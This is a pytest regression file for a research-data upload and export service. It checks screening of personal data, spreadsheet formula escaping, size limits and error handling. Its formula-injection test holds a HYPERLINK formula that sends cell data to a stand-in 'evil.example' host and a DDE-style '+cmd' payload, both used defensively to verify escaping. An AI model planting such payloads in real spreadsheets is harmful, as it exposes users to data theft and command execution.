"""Regressions for the security review of research uploads and exports."""

import pytest

from kinga.research import services
from kinga.research.ingest import IngestError
from kinga.research.models import Dataset, DatasetVariable
from kinga.research.tests import factories

NAMES = ["AMINA SAID", "BAKARI JUMA", "MWANAJUMA BARAKA", "HALIMA ALI", "ZAWADI OMARI",
         "JUMA HAMISI"]  # fmt: skip
PARTICLE_NAMES = ["Mwanajuma binti Ali", "Bakari bin Juma", "Halima wa Said",
                  "Zawadi binti Omari", "Juma bin Hamisi", "Kipchoge arap Keino",
                  "Lemayian ole Sankale"]  # fmt: skip


def _upload(actor, content, name="a.csv", **extra):
    return services.dataset_upload(actor=actor, title="T", data=(name, content), **extra)


def _refused(actor, content, column, **extra):
    with pytest.raises(IngestError) as caught:
        _upload(actor, content, **extra)
    assert repr(column) in caught.value.message
    assert "Nothing was saved" in caught.value.message
    assert not Dataset.objects.exists() and not DatasetVariable.objects.exists()
    return caught.value.message


# ---------------------------------------------------------------- 1. identity screen
def test_a_column_of_capitalised_names_repeated_across_rows_is_refused(cast):
    rows = [[n, str(i % 2), "yes"] for i, n in enumerate(NAMES * 5)]
    message = _refused(
        cast.me_officer, factories.to_csv(["respondent", "round", "knows"], rows), "respondent"
    )
    assert "names" in message


def test_lower_case_names_are_refused_too(cast):
    rows = [[n.lower(), "yes"] for n in NAMES * 3]
    _refused(cast.me_officer, factories.to_csv(["mhojiwa", "knows"], rows), "mhojiwa")


def test_names_joined_by_particles_such_as_binti_or_arap_are_refused(cast):
    rows = [[n, "yes"] for n in PARTICLE_NAMES * 5]
    _refused(cast.me_officer, factories.to_csv(["mtoto", "knows"], rows), "mtoto")


def test_a_phone_number_inside_free_text_is_refused_naming_the_column_and_row(cast):
    rows = [["ok", "yes"], ["call mama Amina on 0712345600", "yes"]] + [["fine", "no"]] * 30
    message = _refused(cast.me_officer, factories.to_csv(["comments", "knows"], rows), "comments")
    assert "phone numbers" in message and "row 2" in message
    assert "0712345600" not in message


@pytest.mark.parametrize(
    "cell", ["0712.345.600", "0712 345 600", "0712-345-600", "+254 712-345.600", "(0712) 345600",
             "nipigie 712 345 600 kesho"],
)  # fmt: skip
def test_phone_numbers_split_by_dots_spaces_or_dashes_are_refused(cast, cell):
    rows = [[cell, "yes"]] + [["none", "no"]] * 10
    _refused(cast.me_officer, factories.to_csv(["other_specify", "knows"], rows), "other_specify")


def test_an_email_address_inside_free_text_is_refused(cast):
    rows = [["write to amina.said@example.org please", "yes"]] + [["nothing", "no"]] * 10
    message = _refused(cast.me_officer, factories.to_csv(["notes", "knows"], rows), "notes")
    assert "e-mail" in message


def test_a_codebook_declaring_a_name_column_a_select_does_not_switch_the_screen_off(cast):
    names = ["Amina Said", "Bakari Juma", "Halima Ali", "Zawadi Omari", "Juma Hamisi"]
    content = factories.to_csv(["child_name", "knows"], [[n, "yes"] for n in names * 4])
    codebook = factories.to_csv(["variable", "label", "list_name"], [["child_name", "C", "kids"]])
    choices = factories.to_csv(["list_name", "value", "label"], [["kids", n, n] for n in names])
    _refused(
        cast.me_officer,
        content,
        "child_name",
        codebook=("cb.csv", codebook),
        codebook_choices=("ch.csv", choices),
    )


def test_a_codebook_select_without_matching_choices_still_gets_the_name_content_screen(cast):
    content = factories.to_csv(["kid", "knows"], [[n, "yes"] for n in NAMES * 3])
    codebook = factories.to_csv(["variable", "label", "list_name"], [["kid", "Kid", "kids"]])
    choices = factories.to_csv(["list_name", "value", "label"], [["kids", "1", "One"]])
    _refused(
        cast.me_officer,
        content,
        "kid",
        codebook=("cb.csv", codebook),
        codebook_choices=("ch.csv", choices),
    )


def test_a_place_word_does_not_excuse_a_name_column_about_a_person(cast):
    rows = [[n, "yes"] for n in ["Amina", "Bakari", "Halima", "Zawadi", "Juma"] * 4]
    _refused(
        cast.me_officer,
        factories.to_csv(["group_leader_name", "knows"], rows),
        "group_leader_name",
    )


def test_place_names_likert_labels_and_ordinary_free_text_are_still_accepted(cast):
    likert = ["Strongly agree", "Somewhat agree", "Strongly disagree", "Somewhat disagree",
              "Neither agree nor disagree", "Don't know"]  # fmt: skip
    places = ["Taita Taveta", "Tana River", "Homa Bay", "Kwale", "Kilifi", "Mombasa"]
    notes = ["heard it on the radio", "at the chief's baraza", "", "from my neighbour",
             "church meeting", "no comment"]  # fmt: skip
    rows = [[likert[i % 6], places[i % 6], notes[i % 6], str(i % 3)] for i in range(60)]
    ds = _upload(
        cast.me_officer,
        factories.to_csv(["attitude", "county_name", "comments", "weight"], rows),
    )
    assert ds.variables.count() == 4


# ---------------------------------------------------------------- 2. formula injection
def test_every_text_cell_of_the_xlsx_export_that_could_run_as_a_formula_is_escaped(cast):
    import io

    from openpyxl import load_workbook

    from kinga.research.exports import spreadsheet_safe

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rows = [[str(i % 2), evil if i % 2 else "@SUM(1+1)", "yes" if i % 3 else "no"]
            for i in range(40)]  # fmt: skip
    ds = services.dataset_upload(
        actor=cast.me_officer,
        title=evil,
        description="+cmd|' /C calc'!A0",
        data=("-x.csv", factories.to_csv(["round", "grp", "knows"], rows)),
    )
    services.design_declare(actor=cast.me_officer, dataset=ds, values={"group_column": "grp"})
    services.indicator_create(
        actor=cast.me_officer,
        dataset=ds,
        label="=1+1",
        variable="knows",
        kind="proportion",
        yes_values=["yes"],
    )
    content, _ctype, _name = services.report_export(actor=cast.me_officer, dataset=ds, fmt="xlsx")
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "'@SUM(1+1)" in texts and "'" + evil in texts and "'=1+1" in texts and "'-x.csv" in texts
    assert spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe(-1.5) == -1.5


# ---------------------------------------------------------------- 3. memory
def test_a_cell_longer_than_the_limit_is_refused_naming_its_row_and_column(cast):
    import time

    rows = [["1", "a"]] * 5 + [["2", "x" * 100_000]] + [["1", "b"]] * 50_000
    started = time.monotonic()
    with pytest.raises(IngestError) as caught:
        _upload(cast.me_officer, factories.to_csv(["q1", "note"], rows))
    assert "row 6" in caught.value.message and "'note'" in caught.value.message
    assert "xxxx" not in caught.value.message
    assert time.monotonic() - started < 10
    assert not Dataset.objects.exists()


def test_an_xlsx_cell_longer_than_the_limit_is_refused_too(cast, settings):
    settings.KINGA_RESEARCH_MAX_CELL_CHARS = 100
    content = factories.to_xlsx({"d": [["q1", "note"], [1, "ok"], [2, "y" * 101]]})
    with pytest.raises(IngestError, match=r"row 2, column 'note'"):
        _upload(cast.me_officer, content, name="a.xlsx")


def test_one_huge_cell_in_a_long_file_is_read_quickly_without_sizing_every_cell_by_it(
    cast, settings
):
    import time

    from kinga.research import analysis

    settings.KINGA_RESEARCH_MAX_CELL_CHARS = 200_000
    # As fixed-width text this would be 30,000 rows x 120,000 characters x 4 bytes = 14 GB.
    rows = [["x" * 120_000, "1"]] + [[str(i % 7), str(i % 2)] for i in range(30_000)]
    started = time.monotonic()
    ds = _upload(cast.me_officer, factories.to_csv(["a", "b"], rows))
    frame = analysis.frame_of(ds)
    assert frame.text("a")[0] == "x" * 120_000 and frame.numeric("b")[1:3].tolist() == [0, 1]
    assert time.monotonic() - started < 20


def test_a_recruitment_file_with_one_huge_cell_is_read_quickly(cast, settings):
    from kinga.research import prevalence

    settings.KINGA_RESEARCH_MAX_CELL_CHARS = 200_000
    rows = [["1", "", "5", "x" * 120_000]] + [[str(i), "1", "4", "no"] for i in range(2, 20_000)]
    content = factories.to_csv(["id", "rec", "deg", "out"], rows)
    cols = prevalence._columns("r.csv", content, ["id", "rec", "deg", "out"])
    assert cols["out"].dtype == object and len(cols["out"]) == 19_999


# ---------------------------------------------------------------- 4. no 500s
def _truncated_sheet_xlsx(title: str = "data") -> bytes:
    import io
    import zipfile

    whole = factories.to_xlsx({title: [["type", "name"], ["integer", "q1"], ["integer", "q2"]]})
    source = zipfile.ZipFile(io.BytesIO(whole))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) // 2]
            target.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_with_a_truncated_sheet_gets_a_clear_message_not_a_server_error(cast):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from kinga.core.testing import client_for

    with pytest.raises(IngestError, match="is damaged and cannot be read"):
        _upload(cast.me_officer, _truncated_sheet_xlsx(), name="a.xlsx")
    client = client_for(cast.me_officer)
    client.raise_request_exception = False
    response = client.post(
        reverse("research:upload"),
        {"title": "x", "data_file": SimpleUploadedFile("a.xlsx", _truncated_sheet_xlsx())},
    )
    assert response.status_code == 400 and "is damaged" in response.content.decode()
    assert not Dataset.objects.exists()


def test_an_xlsform_with_a_truncated_sheet_gets_a_clear_message(cast):
    with pytest.raises(IngestError, match="is damaged and cannot be read"):
        _upload(
            cast.me_officer,
            factories.to_csv(["q1"], [["1"], ["2"]]),
            xlsform=("form.xlsx", _truncated_sheet_xlsx("survey")),
        )


@pytest.mark.parametrize("marked", ["1" + "0" * 400, str(10**18)])
def test_absurdly_large_capture_numbers_are_refused_by_the_form_not_a_server_error(cast, marked):
    from django.urls import reverse

    from kinga.core.testing import client_for
    from kinga.research.models import PrevalenceStudy

    client = client_for(cast.me_officer)
    client.raise_request_exception = False
    response = client.post(
        reverse("research:prevalence"),
        {"method_kind": "capture", "cap-title": "x", "cap-marked": marked, "cap-caught": "5",
         "cap-recaptured": "1", "cap-method": "chapman"},
    )  # fmt: skip
    assert response.status_code == 400
    assert "less than or equal to" in response.content.decode()
    assert not PrevalenceStudy.objects.exists()


def test_the_capture_service_refuses_absurd_numbers_with_a_message(cast):
    from kinga.research.prevalence import PrevalenceError

    with pytest.raises(PrevalenceError, match="from 0 to"):
        services.prevalence_study_create(
            actor=cast.me_officer,
            title="x",
            kind="capture",
            params={"marked": 10**400, "caught": 5, "recaptured": 1, "method": "chapman"},
        )


def test_absurd_scale_up_sizes_are_refused_by_the_form():
    from kinga.research.forms import NSUMForm

    form = NSUMForm(
        {"title": "x", "known_columns": "a,b", "known_sizes": "1e400,5", "hidden_column": "h",
         "population_size": str(10**30), "degree_ratio": "1", "tx_rate": "1", "bootstrap": "0"},
    )  # fmt: skip
    assert not form.is_valid()
    assert "known_sizes" in form.errors and "population_size" in form.errors


# ---------------------------------------------------------------- 5. double submission
def test_submitting_the_upload_form_twice_creates_one_dataset_and_redirects_to_it(cast):
    import re

    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from kinga.core.testing import client_for

    client = client_for(cast.me_officer)
    page = client.get(reverse("research:upload")).content.decode()
    token = re.search(r'name="form_token" value="([0-9a-f]{32})"', page).group(1)

    def post():
        return client.post(
            reverse("research:upload"),
            {"title": "KAP", "form_token": token,
             "data_file": SimpleUploadedFile("kap.csv", factories.kap_csv())},
        )  # fmt: skip

    first, second = post(), post()
    ds = Dataset.objects.get()
    assert first.status_code == second.status_code == 302
    assert first.url == second.url == reverse("research:dataset", args=[ds.public_id])
    fresh = client.get(reverse("research:upload")).content.decode()
    assert token not in fresh


def test_a_refused_upload_does_not_use_up_its_form_token(cast):
    token = "a" * 32
    bad = factories.to_csv(["q1", "simu"], [["1", "0712345678"], ["0", "0722000111"]])
    with pytest.raises(IngestError):
        services.dataset_upload(
            actor=cast.me_officer, title="T", data=("a.csv", bad), form_token=token
        )
    good = factories.to_csv(["q1"], [["1"], ["0"]])
    ds = services.dataset_upload(
        actor=cast.me_officer, title="T", data=("a.csv", good), form_token=token
    )
    again = services.dataset_upload(
        actor=cast.me_officer, title="T", data=("a.csv", good), form_token=token
    )
    assert again.pk == ds.pk and Dataset.objects.count() == 1
    other = services.dataset_upload(
        actor=cast.me_officer, title="T", data=("a.csv", good), form_token="b" * 32
    )
    assert other.pk != ds.pk


# ---------------------------------------------------------------- 6. no cell values in messages
def test_a_non_number_in_a_numeric_role_is_named_by_row_and_column_not_by_its_value(cast):
    from kinga.research import analysis, prevalence

    rows = [["1.5", "1"], ["2", "0"], ["Amina Said", "1"], ["1", "1"]]
    ds = _upload(cast.me_officer, factories.to_csv(["w", "q"], rows))
    with pytest.raises(IngestError) as caught:
        analysis.frame_of(ds).numeric("w")
    assert "'w'" in caught.value.message and "row 3" in caught.value.message
    assert "Amina" not in caught.value.message
    content = factories.to_csv(
        ["id", "rec", "deg", "out"], [["1", "", "5", "a"], ["2", "1", "Amina Said", "b"]]
    )
    with pytest.raises(prevalence.PrevalenceError) as caught:
        prevalence.rds(
            filename="r.csv", content=content, id_column="id", recruiter_column="rec",
            degree_column="deg", outcome_column="out", estimator="RDS-II",
            population_size=None, exclude_seeds=False, bootstrap=0, seed=1,
        )  # fmt: skip
    assert "'deg'" in caught.value.message and "row 2" in caught.value.message
    assert "Amina" not in caught.value.message
